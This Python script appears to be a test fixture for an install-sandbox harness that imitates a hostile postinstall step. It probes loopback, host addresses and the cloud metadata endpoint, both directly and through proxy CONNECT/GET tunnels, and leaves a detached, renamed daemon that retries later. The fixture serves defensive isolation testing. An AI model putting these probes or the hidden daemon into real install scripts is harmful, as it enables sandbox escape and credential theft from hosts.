# The install phase of this attack (run with --install-command 'python3 attack_install.py'),
# as a postinstall or setup.py would: it tries the host's loopback (127.0.0.1 and ::1),
# the host's other addresses and link-local metadata, directly and through the
# install's proxy (CONNECT and plain GET, by address and by a name that resolves to
# loopback), and leaves a detached daemon that calls home again 10 s later. The host
# counts connections on its listeners; the run must still pass.
import ctypes
import os
import socket
import time

MARK = os.environ["HOSTILE_MARK"]
PORT = int(os.environ["HOSTILE_PORT"])
PORT6 = int(os.environ.get("HOSTILE_PORT6") or 0)
HOST_IPS = [ip for ip in os.environ.get("HOSTILE_HOST_IPS", "").split(",") if ip]


def direct(host, port, family=socket.AF_INET):
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect((host, port))
        s.close()
        return "CONNECTED"
    except OSError as e:
        return type(e).__name__


def via_proxy(request):
    proxy = os.environ.get("HTTPS_PROXY") or os.environ.get("https_proxy")
    if not proxy:
        return "no proxy"
    host, port = proxy.split("//", 1)[1].rstrip("/").rsplit(":", 1)
    try:
        s = socket.create_connection((host, int(port)), timeout=5)
        s.sendall(request.encode())
        return s.recv(300).decode(errors="replace").split("\r\n")[0]
    except OSError as e:
        return type(e).__name__


def attempts():
    out = {"127.0.0.1": direct("127.0.0.1", PORT)}
    if PORT6:
        out["::1"] = direct("::1", PORT6, socket.AF_INET6)
    for ip in HOST_IPS:
        out[ip] = direct(ip, PORT)
    out["metadata"] = direct("169.254.169.254", 80)
    for target in [f"127.0.0.1:{PORT}", f"localhost:{PORT}", f"[::1]:{PORT6 or PORT}", "169.254.169.254:80"] + [
        f"{ip}:{PORT}" for ip in HOST_IPS
    ]:
        out["CONNECT " + target] = via_proxy(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n")
    out["GET localhost"] = via_proxy(f"GET http://localhost:{PORT}/ HTTP/1.1\r\nHost: localhost:{PORT}\r\n\r\n")
    out["GET 127.0.0.1"] = via_proxy(f"GET http://127.0.0.1:{PORT}/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
    return out


def daemon():
    # Detached: its own session, reparented away from the install's process group.
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    libc = ctypes.CDLL(None)
    libc.prctl(15, MARK.encode(), 0, 0, 0)  # PR_SET_NAME: the host finds it by this name
    for fd in (0, 1, 2):
        try:
            os.close(fd)
        except OSError:
            pass
    time.sleep(10)
    attempts()
    time.sleep(300)
    os._exit(0)


for what, outcome in attempts().items():
    print(f"install attack: {what}: {outcome}")
daemon()
